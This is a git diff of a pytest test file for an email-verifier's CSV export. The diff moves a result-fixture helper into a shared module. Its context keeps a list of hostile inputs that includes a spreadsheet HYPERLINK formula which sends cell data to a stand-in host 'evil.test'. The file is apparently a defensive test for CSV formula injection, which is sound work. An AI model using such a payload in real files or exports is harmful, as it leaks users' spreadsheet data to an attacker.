@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import AsyncIterator
-from typing import Any
 
 import httpx
 import pytest
@@ -17,6 +16,7 @@ from app.api.v0 import csv_export
 from app.db import jobs, results
 from app.settings import Settings
 from tests.fixtures.api import in_process_api
+from tests.fixtures.results import stored_output
 
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?"&A1)@x.com',
@@ -40,29 +40,6 @@ async def client(
         yield http
 
 
-def stored_output(address: str) -> dict[str, Any]:
-    username, _, domain = address.rpartition("@")
-    return {
-        "input": address,
-        "is_reachable": "invalid",
-        "misc": {"is_disposable": False, "is_role_account": False},
-        "mx": {"accepts_mail": True, "records": ["mx.x.com."]},
-        "smtp": {
-            "can_connect_smtp": True,
-            "has_full_inbox": False,
-            "is_catch_all": False,
-            "is_deliverable": False,
-            "is_disabled": False,
-        },
-        "syntax": {
-            "address": address,
-            "domain": domain,
-            "is_valid_syntax": True,
-            "username": username,
-        },
-    }
-
-
 @pytest.fixture
 async def finished_job(db_session: AsyncSession) -> jobs.NewJob:
     job = await jobs.create(db_session, total_records=len(HOSTILE), options=jobs.JobOptions())
@@ -73,7 +50,7 @@ async def finished_job(db_session: AsyncSession) -> jobs.NewJob:
             position=position,
             email=address,
             verdict="invalid",
-            output=stored_output(address),
+            output=stored_output(address, "invalid"),
         )
     return job
 
